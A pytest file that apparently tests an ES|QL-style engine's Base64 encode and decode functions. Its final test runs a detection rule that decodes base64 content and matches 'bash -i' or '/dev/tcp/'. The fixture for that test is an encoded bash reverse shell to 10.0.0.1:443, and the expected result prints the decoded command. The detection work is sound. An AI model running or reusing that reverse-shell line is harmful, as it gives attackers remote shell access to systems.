"""FROM_BASE64 and TO_BASE64: Java's basic Base64 decoder/encoder, null for what it rejects."""

from __future__ import annotations

from typing import Any

import pytest

from trailsweep.esql import EsqlVerificationError, FieldSpec, compile_query, parse_query

from .runner import EsqlRunner

TEXT = FieldSpec("t", "keyword")


def _eval(esql: EsqlRunner, expression: str, value: Any, spec: FieldSpec = TEXT) -> Any:
    rows = esql.run(f"FROM logs | EVAL r = {expression} | KEEP r", [spec], [{spec.name: value}])
    return rows[0]["r"]


@pytest.mark.parametrize(
    ("encoded", "decoded"),
    [
        ("ZWxhc3RpYw==", "elastic"),
        ("ZWxhc3RpYw", "elastic"),  # padding may be left out
        ("ZWxhc3RpYw=", None),  # ...but not half given
        ("ZWxhc3RpYw===", None),
        ("ZWxhc3RpYw==x", None),  # nothing after the padding
        ("ZW=xhc3RpYw==", None),
        ("Z", None),  # a single character is no byte
        ("ZXk", "ey"),
        ("ZXk=", "ey"),
        ("", ""),
        ("ZWxh c3Rp", None),  # no whitespace (basic decoder, not MIME)
        ("ZWxh\nc3Rp", None),
        ("ZW-_", None),  # not the URL alphabet
        ("QR==", "A"),  # unused bits are ignored
        ("w6l0w6k=", "été"),
        ("/w==", None),  # 0xFF is not UTF-8
        ("7aCA", None),  # an encoded surrogate is not well-formed UTF-8
        ("AA==", "\x00"),
        (None, None),
    ],
)
def test_from_base64(esql: EsqlRunner, encoded: str | None, decoded: str | None) -> None:
    assert _eval(esql, "FROM_BASE64(t)", encoded) == decoded


def test_to_base64_round_trip(esql: EsqlRunner) -> None:
    assert _eval(esql, "TO_BASE64(t)", "elastic") == "ZWxhc3RpYw=="
    assert _eval(esql, "TO_BASE64(t)", "été") == "w6l0w6k="
    assert _eval(esql, "FROM_BASE64(TO_BASE64(t))", "a\nb") == "a\nb"
    assert _eval(esql, "TO_BASE64(t)", "") == ""


def test_base64_of_a_multivalued_value_is_null(esql: EsqlRunner) -> None:
    tags = FieldSpec("tags", "keyword", multivalued=True)
    assert _eval(esql, "FROM_BASE64(tags)", ["ZXk=", "ZXk="], tags) is None
    assert _eval(esql, "FROM_BASE64(tags)", ["ZXk="], tags) == "ey"


def test_base64_needs_a_string() -> None:
    with pytest.raises(EsqlVerificationError, match="must be keyword"):
        compile_query(
            parse_query("FROM x | EVAL r = FROM_BASE64(n)"), {"n": FieldSpec("n", "long")}
        )


def test_sagemaker_rule_decodes_and_matches_the_script(esql: EsqlRunner) -> None:
    query = (
        'FROM logs | GROK p "[Cc]ontent=(?<b64>[A-Za-z0-9+/=]+)"'
        " | EVAL script = FROM_BASE64(b64)"
        ' | WHERE TO_LOWER(script) RLIKE """.*(bash -i|/dev/tcp/).*"""'
        " | KEEP script"
    )
    payload = "IyEvYmluL2Jhc2gKYmFzaCAtaSA+JiAvZGV2L3RjcC8xMC4wLjAuMS80NDMgMD4mMQo="
    rows = esql.run(
        query,
        [FieldSpec("p", "keyword")],
        [
            {"p": f"{{onStart=[{{content={payload}}}], name=cfg}}"},
            {"p": "{onStart=[{content=ZWNobyBoZWxsbwo=}]}"},  # "echo hello"
            {"p": "{onStart=[{content=!!!}]}"},
        ],
    )
    assert rows == [
        {"script": "#!/bin/bash\nbash -i >& /dev/tcp/10.0.0.1/443 0>&1\n", "__evidence": [0]}
    ]
